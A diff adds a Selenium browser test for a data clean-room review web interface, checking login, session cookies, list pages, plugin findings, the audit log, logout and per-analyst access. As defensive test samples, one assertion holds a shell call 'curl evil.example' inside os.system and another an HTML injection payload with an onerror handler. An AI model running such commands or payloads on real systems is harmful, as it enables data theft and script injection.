@@ -1,0 +1,154 @@
+"""The review page in a real headless Chromium (Selenium): login, every list page, a plugin's code with
+its findings, the audit log, a wrong token, logout. Screenshots go to test-artifacts/screenshots/.
+
+Needs Debian's `chromium` and `chromium-driver` and the `selenium` package. Skips locally without them;
+fails when CI=true, so CI can never silently stop testing the page in a browser.
+"""
+
+from __future__ import annotations
+
+import os
+import shutil
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.test_web import SCRIPT, Seeded, seed
+
+REPO = Path(__file__).resolve().parent.parent
+SHOTS = REPO / "test-artifacts" / "screenshots"
+
+
+def _missing(what: str) -> None:
+    message = f"the browser test needs {what}"
+    if os.environ.get("CI", "").lower() == "true":
+        pytest.fail(message + " (CI=true: install it, this test must not skip in CI)")
+    pytest.skip(message)
+
+
+@pytest.fixture(scope="module")
+def driver() -> Iterator[Any]:
+    try:
+        from selenium import webdriver
+        from selenium.webdriver.chrome.service import Service
+    except ImportError:
+        _missing("the selenium package (pip install selenium)")
+    binary = os.environ.get("CHROMIUM_BIN") or shutil.which("chromium") or shutil.which("chromium-browser")
+    chromedriver = os.environ.get("CHROMEDRIVER_BIN") or shutil.which("chromedriver")
+    if not binary or not chromedriver or not Path(binary).exists() or not Path(chromedriver).exists():
+        _missing("chromium and chromedriver (apt-get install chromium chromium-driver)")
+    options = webdriver.ChromeOptions()
+    options.binary_location = binary
+    for arg in ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
+                "--window-size=1280,900", "--disable-extensions", "--no-first-run"):
+        options.add_argument(arg)
+    browser = webdriver.Chrome(service=Service(executable_path=chromedriver), options=options)
+    browser.set_page_load_timeout(30)
+    SHOTS.mkdir(parents=True, exist_ok=True)
+    yield browser
+    browser.quit()
+
+
+@pytest.fixture
+def seeded(room: Any, tmp_path: Path, driver: Any) -> Seeded:
+    driver.delete_all_cookies()
+    return seed(room, tmp_path)
+
+
+def shot(driver: Any, name: str) -> None:
+    height = driver.execute_script("return document.documentElement.scrollHeight")
+    driver.set_window_size(1280, max(900, min(int(height) + 120, 6000)))
+    assert driver.save_screenshot(str(SHOTS / f"{name}.png"))
+    driver.set_window_size(1280, 900)
+
+
+def click_and_wait(driver: Any, element: Any) -> None:
+    """Click a link or a form's button and wait until the browser shows the new document."""
+    from selenium.webdriver.support import expected_conditions
+    from selenium.webdriver.support.ui import WebDriverWait
+
+    element.click()
+    WebDriverWait(driver, 15).until(expected_conditions.staleness_of(element))
+    WebDriverWait(driver, 15).until(lambda d: d.execute_script("return document.readyState") == "complete")
+
+
+def log_in(driver: Any, room: Any, token: str) -> None:
+    from selenium.webdriver.common.by import By
+
+    driver.get(room.url + "/ui/login")
+    driver.find_element(By.ID, "token").send_keys(token)
+    click_and_wait(driver, driver.find_element(By.CSS_SELECTOR, "form.login button[type=submit]"))
+
+
+def test_wrong_token_shows_the_login_page_with_an_error(driver, room, seeded):
+    from selenium.webdriver.common.by import By
+
+    log_in(driver, room, seeded.tokens["bank"][:-2] + "xx")
+    assert driver.current_url == room.url + "/ui/login"
+    assert "not valid" in driver.find_element(By.CSS_SELECTOR, "p.error").text
+    assert not any(c["name"] == "cleanroom_session" for c in driver.get_cookies())
+    shot(driver, "login-wrong-token")
+    driver.get(room.url + "/ui/datasets")
+    assert driver.find_element(By.ID, "token") and "customers" not in driver.page_source
+
+
+def test_review_pages_in_a_browser(driver, room, seeded):
+    from selenium.webdriver.common.by import By
+
+    log_in(driver, room, seeded.tokens["bank"])
+    assert driver.current_url == room.url + "/ui/datasets"
+    session = next(c for c in driver.get_cookies() if c["name"] == "cleanroom_session")
+    assert session["httpOnly"] and session.get("sameSite") == "Strict"
+    assert driver.execute_script("return document.cookie") == ""  # the token is out of reach of scripts
+    assert "customers" in driver.find_element(By.TAG_NAME, "table").text
+    shot(driver, "datasets")
+
+    click_and_wait(driver, driver.find_element(By.LINK_TEXT, "customers"))
+    assert "min_group_size = 10" in driver.find_element(By.TAG_NAME, "pre").text
+    shot(driver, "dataset")
+
+    for nav, name, expect in (("Plugins", "plugins", "drop-gaps"), ("Jobs", "jobs", "churn-by-region"),
+                              ("Releases", "releases", seeded.release_id)):
+        click_and_wait(driver, driver.find_element(By.LINK_TEXT, nav))
+        assert driver.current_url.endswith("/ui/" + name)
+        assert expect in driver.find_element(By.TAG_NAME, "main").text
+        shot(driver, name)
+
+    driver.get(room.url + f"/ui/plugins/{seeded.ana_plugin}")
+    line = driver.find_element(By.ID, "f1-L5")
+    assert "flag-blocking" in line.get_attribute("class") and 'os.system("curl evil.example")' in line.text
+    finding = driver.find_element(By.CSS_SELECTOR, "tr.finding.blocking")
+    assert "os.system runs a shell <img src=x onerror=alert(1)>" in finding.text  # shown as text
+    assert SCRIPT in driver.find_element(By.ID, "f1-L1").text  # the code's <script> is text, not markup
+    assert not driver.find_elements(By.TAG_NAME, "script") and not driver.find_elements(By.TAG_NAME, "img")
+    assert f"cleanroom plugin approve {seeded.ana_plugin} --dataset customers" in driver.page_source
+    shot(driver, "plugin")
+
+    driver.get(room.url + f"/ui/releases/{seeded.release_id}")
+    assert "smallest group 12 >= 10" in driver.find_element(By.TAG_NAME, "main").text
+    shot(driver, "release")
+
+    click_and_wait(driver, driver.find_element(By.LINK_TEXT, "Audit log"))
+    assert "The hash chain verifies" in driver.find_element(By.CSS_SELECTOR, "p.banner.ok").text
+    assert "dataset.created" in driver.find_element(By.TAG_NAME, "table").text
+    shot(driver, "audit")
+
+    # logout is a POST form: Chromium's own request passes the CSRF checks
+    click_and_wait(driver, driver.find_element(By.CSS_SELECTOR, "header form button"))
+    assert driver.current_url == room.url + "/ui/login"
+    assert not any(c["name"] == "cleanroom_session" for c in driver.get_cookies())
+    driver.get(room.url + "/ui/plugins")
+    assert "Log in" in driver.find_element(By.TAG_NAME, "h1").text and "drop-gaps" not in driver.page_source
+
+
+def test_an_analyst_sees_only_its_own_plugins(driver, room, seeded):
+    from selenium.webdriver.common.by import By
+
+    log_in(driver, room, seeded.tokens["ana"])
+    click_and_wait(driver, driver.find_element(By.LINK_TEXT, "Plugins"))
+    text = driver.find_element(By.TAG_NAME, "main").text
+    assert "drop-gaps" in text and "bob-secret-model" not in text
+    driver.get(room.url + f"/ui/plugins/{seeded.bob_plugin}")
+    assert "Error 404" in driver.find_element(By.TAG_NAME, "h1").text
